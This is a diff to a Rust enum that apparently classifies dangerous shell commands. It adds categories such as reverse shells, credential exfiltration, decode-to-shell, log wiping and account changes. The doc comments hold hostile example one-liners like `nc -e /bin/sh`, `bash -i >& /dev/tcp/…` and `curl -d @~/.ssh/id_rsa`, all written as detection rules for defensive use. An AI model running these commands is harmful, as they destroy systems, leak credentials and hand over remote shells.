@@ -7,8 +7,10 @@ use serde::{Deserialize, Serialize};
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize, JsonSchema)]
 #[serde(rename_all = "snake_case")]
 pub enum Category {
-    /// Recursive delete (or move away) of `/`, `/*`, a top-level system folder, `~` or `$HOME`,
-    /// or any `rm --no-preserve-root`; `find / -delete`.
+    /// Recursive delete (or move away) of `/`, any folder of the operating system (`/var/lib`,
+    /// `/usr/share`, …), a home folder or a folder directly in one (`~/.ssh`, `~/Documents`),
+    /// or any `rm --no-preserve-root`; `find / -delete`. Wrappers (`sudo`, `doas`, `env`,
+    /// `nice`, `timeout`, …) do not hide it.
     RecursiveDelete,
     /// Writing straight to a disk device: `dd of=/dev/sda`, `> /dev/sda`, `shred /dev/sda`,
     /// `tee`/`cp` onto a device, `blkdiscard`.
@@ -21,7 +23,8 @@ pub enum Category {
     /// Downloaded text run as code: `curl … | sh`, `sh <(curl …)`, `bash -c "$(curl …)"`,
     /// `eval "$(wget -O- …)"`, `python3 <(curl …)`.
     DownloadToShell,
-    /// `chmod`/`chown`/`chgrp` applied recursively to `/`, a top-level system folder or home.
+    /// `chmod`/`chown`/`chgrp` applied recursively to `/`, a system folder or a home folder, or
+    /// to any file of the operating system (`chmod u+s /bin/bash`, `chmod 777 /etc/shadow`).
     PermissionBlast,
     /// `git push` that rewrites or deletes remote history: `--force`, `-f`,
     /// `--force-with-lease`, `+refspec`, `--delete`, `:branch`, `--mirror`, `--prune`.
@@ -36,11 +39,45 @@ pub enum Category {
     /// Killing every process (`kill -9 -1`, `kill 1`, `killall5`) or all of a user's
     /// (`pkill -9 -u bob`, `killall -u bob`).
     KillAll,
+    /// Decoded or unpacked text run as code: `base64 -d x | sh`, `xxd -r -p | bash`,
+    /// `sh <(gunzip -c x.gz)`, `printf '\x72\x6d…' | sh`.
+    DecodeToShell,
+    /// A shell handed to a network peer: `nc -e /bin/sh`, `ncat --sh-exec`, `socat exec:… tcp:…`,
+    /// `bash -i >& /dev/tcp/…`, `nc … | sh`, interpreter one-liners joining a socket to a shell.
+    ReverseShell,
+    /// Keys, credentials or the environment sent over the network: `curl -d @~/.ssh/id_rsa`,
+    /// `scp ~/.aws/credentials host:`, `cat .env | nc host 80`, `env | curl -d @- …`.
+    CredentialExfiltration,
+    /// Changing firewall rules: `iptables -F`, `nft flush ruleset`, `ufw disable`,
+    /// `firewall-cmd --add-port`, `pfctl -d`.
+    FirewallChange,
+    /// Changing routes or taking interfaces down: `ip route del default`, `route add`,
+    /// `ip link set eth0 down`, `ifconfig eth0 down`, `nmcli networking off`.
+    RoutingChange,
+    /// Deleting or replacing scheduled jobs: `crontab -r`, `crontab file`, `atrm`,
+    /// `systemctl disable x.timer`.
+    ScheduledJobRemoval,
+    /// Stopping, disabling, masking or deregistering a system service: `systemctl stop|disable|mask`,
+    /// `service x stop`, `update-rc.d x remove`, `launchctl unload|bootout`.
+    ServiceRemoval,
+    /// Changing the running kernel or its settings: `insmod`, `rmmod`, `modprobe`, `kexec`,
+    /// `sysctl -w`, writes to `/proc/sys`, `/sys` or `/proc/sysrq-trigger`.
+    KernelChange,
+    /// Changing who may log in or become root: `useradd`, `userdel`, `usermod`, `passwd`,
+    /// `chpasswd`, `visudo`, writes to `/etc/passwd`, `/etc/shadow`, `/etc/sudoers`, an
+    /// `authorized_keys` file.
+    AccountChange,
+    /// Erasing traces: `history -c`, `unset HISTFILE`, `HISTFILE=/dev/null`, deleting or
+    /// truncating shell histories or anything under `/var/log`, `journalctl --vacuum-*`.
+    LogWipe,
+    /// Writing, replacing or deleting a file of the operating system (`> /etc/hosts`,
+    /// `tee /etc/…`, `cp x /usr/bin/`, `sed -i … /etc/…`, `rm /usr/lib/…`).
+    SystemFileWrite,
 }
 
 impl Category {
     /// Every category, in declaration order.
-    pub const ALL: [Category; 10] = [
+    pub const ALL: [Category; 21] = [
         Category::RecursiveDelete,
         Category::RawDiskWrite,
         Category::FilesystemFormat,
@@ -51,6 +88,17 @@ impl Category {
         Category::DestructiveGit,
         Category::Shutdown,
         Category::KillAll,
+        Category::DecodeToShell,
+        Category::ReverseShell,
+        Category::CredentialExfiltration,
+        Category::FirewallChange,
+        Category::RoutingChange,
+        Category::ScheduledJobRemoval,
+        Category::ServiceRemoval,
+        Category::KernelChange,
+        Category::AccountChange,
+        Category::LogWipe,
+        Category::SystemFileWrite,
     ];
 
     /// The snake_case name used in JSON.
@@ -66,6 +114,17 @@ impl Category {
             Category::DestructiveGit => "destructive_git",
             Category::Shutdown => "shutdown",
             Category::KillAll => "kill_all",
+            Category::DecodeToShell => "decode_to_shell",
+            Category::ReverseShell => "reverse_shell",
+            Category::CredentialExfiltration => "credential_exfiltration",
+            Category::FirewallChange => "firewall_change",
+            Category::RoutingChange => "routing_change",
+            Category::ScheduledJobRemoval => "scheduled_job_removal",
+            Category::ServiceRemoval => "service_removal",
+            Category::KernelChange => "kernel_change",
+            Category::AccountChange => "account_change",
+            Category::LogWipe => "log_wipe",
+            Category::SystemFileWrite => "system_file_write",
         }
     }
 }
